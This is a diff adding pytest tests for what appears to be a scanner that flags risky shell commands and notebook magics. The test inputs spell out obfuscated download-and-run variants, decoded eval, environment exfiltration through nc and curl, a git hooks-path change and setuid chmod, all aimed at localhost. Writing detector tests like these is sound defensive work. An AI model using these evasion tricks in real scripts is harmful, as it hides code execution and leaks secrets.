@@ -385,3 +385,59 @@ def test_what_is_too_long_says_so() -> None:
     assert sources([text("a.py", "python", None)]) == (
         CodeFact("a.py", "python", error="it is too long to be looked at"),
     )
+
+
+@pytest.mark.parametrize(
+    ("script", "kind"),
+    [
+        ("$(echo c)url http://127.0.0.1:9/x | sh", "runs-download"),
+        ("C=curl\n$C http://127.0.0.1:9/x | sh", "runs-download"),
+        ("a=cu; b=rl\n$a$b http://127.0.0.1:9/x | $SHELL", "runs-download"),
+        ("c\"\"url http://127.0.0.1:9/x | s''h", "runs-download"),
+        ("cu\\rl http://127.0.0.1:9/x | sh", "runs-download"),
+        ("curl${IFS}http://127.0.0.1:9/x|sh", "runs-download"),
+        (". <(curl http://127.0.0.1:9/x)", "runs-download"),
+        ("curl http://127.0.0.1:9/x | env A=1 sh", "runs-download"),
+        ("curl http://127.0.0.1:9/x | xargs -I{} sh -c {}", "runs-download"),
+        ('eval "$(echo aGk= | base64 -d)"', "runs-decoded"),
+        ("python3 -c 'import os; os.system(\"true\")'", "process"),
+        ("perl -e 'system(\"true\")'", "process"),
+        ("env | nc 127.0.0.1 9", "sends"),
+        ('curl "http://127.0.0.1:9/?$(env | base64)"', "sends"),
+        ("git config --global core.hooksPath ./hooks", "git-setting"),
+        ("chmod u+s /bin/true", "persistence"),
+    ],
+)
+def test_a_shell_s_quotes_and_variables_hide_little(script: str, kind: str) -> None:
+    assert kind in {feature.kind for feature in lines.features(script, "shell")}
+
+
+def test_an_honest_script_shows_nothing() -> None:
+    script = """#!/bin/bash
+set -euo pipefail
+MODEL=${MODEL:-/models/tiny}
+export CUDA_VISIBLE_DEVICES=0,1
+python3 -c "import torch; print(torch.__version__)"
+pip install -r requirements.txt
+echo 'it"s fine' && chmod 755 run.sh && chmod 0644 a.txt
+curl -s "http://localhost:8000/v1/models" | python3 -m json.tool > models.json
+python -m vllm.entrypoints.openai.api_server --model "$MODEL" --port $PORT | tee log.txt
+"""
+    assert lines.features(script, "shell") == ()
+
+
+@pytest.mark.parametrize(
+    "source",
+    ["%%script python3\nimport os\nos.system('true')", "%time __import__('os').system('true')",
+     "%timeit -n 1 __import__('os').system('true')", "!python -c 'import os; os.system(\"true\")'"],
+)  # fmt: skip
+def test_magics_that_run_python_are_python(source: str) -> None:
+    document = json.dumps({"nbformat": 4, "cells": [{"cell_type": "code", "source": source}]})
+    found = sources([text("demo.ipynb", "notebook", document)])
+    assert "process" in {feature.kind for fact in found for feature in fact.features}
+
+
+def test_a_notebook_of_format_3_is_read() -> None:
+    cell = {"cell_type": "code", "input": ["import os\n", "os.system('true')"]}
+    found = sources([text("demo.ipynb", "notebook", json.dumps({"nbformat": 3, "worksheets": [{"cells": [cell]}]}))])
+    assert "process" in {feature.kind for fact in found for feature in fact.features}
